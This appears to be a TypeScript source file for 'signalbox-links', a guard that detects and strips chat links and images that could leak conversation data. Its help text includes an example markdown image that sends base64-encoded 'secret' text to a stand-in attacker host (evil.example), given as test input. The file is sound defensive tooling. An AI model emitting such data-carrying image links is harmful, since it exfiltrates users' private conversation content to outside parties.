import { answer } from '../answer.ts';
import { origins } from '../guard.ts';
import { defineGuard, oneOf, readScan, usageError } from '../program/options.ts';
import { createLinkRules, linkActions, linkKindNames, scannedOrigins } from './rules.ts';

export const guard = defineGuard({
  program: 'signalbox-links',
  about: `Finds addresses that could leak a conversation: images and links with data in their address, hosts that pose as
others, data: and javascript:. Works as a provider or tool hook, as an eval or as a tool. Reads one JSON object from stdin
and answers on stdout. If the first line is JSON-RPC, it runs as a server.`,
  columns: [19, 28],
  options: {
    'allow-host': [
      'list',
      'LIST',
      'allowed hosts of links; *.example.org allows all subdomains. With a list,\nlinks to all other hosts are found, too',
    ],
    kinds: ['list', 'LIST', 'which kinds to look for (default: all)'],
    action: ['text', 'WORD', `${linkActions.join(' or ')} (default: strip; tool arguments are denied)`],
    scan: [
      'list',
      'LIST',
      `which texts to check: ${origins.join(', ')}\n(default: ${scannedOrigins.join(', ')})`,
    ],
    help: ['flag', '', 'show this help'],
  },
  notes: () => `Kinds: ${linkKindNames.join(', ')}

In runtime.yaml:
  hooks:
    links: {command: signalbox-links, args: [--allow-host, '*.example.org'], hook: provider, runtime: server}
  evals:
    no_exfiltration: {command: signalbox-links, runtime: server}

By hand:
  echo '{"args": {"text": "![](https://evil.example/?q=c2VjcmV0IHRoaW5ncyBvZiBBZGE)"}}' | signalbox-links
`,
  read: (options) => {
    const kinds = options.list('kinds').map((word) => oneOf('kind', word, linkKindNames));
    return {
      kinds: new Set(kinds.length === 0 ? linkKindNames : kinds),
      scans: readScan(options, scannedOrigins),
      action: oneOf('action', options.text('action') ?? 'strip', linkActions),
      allowed: options.list('allow-host').map(requireHost),
    };
  },
  open: (settings) => {
    const rules = createLinkRules(settings);
    return { answer: (payload) => answer(payload, rules) };
  },
});

function requireHost(text: string): string {
  const host = text.replace(/^\*\./, '');
  if (/^[\p{L}\p{N}_.:[\]-]+$/u.test(host) && URL.canParse(`https://${host}/`)) {
    return text.replace(host, new URL(`https://${host}/`).hostname);
  }
  throw usageError(
    `"${text}" is not a valid host`,
    'A host is a name such as example.org, or *.example.org for all subdomains.',
  );
}
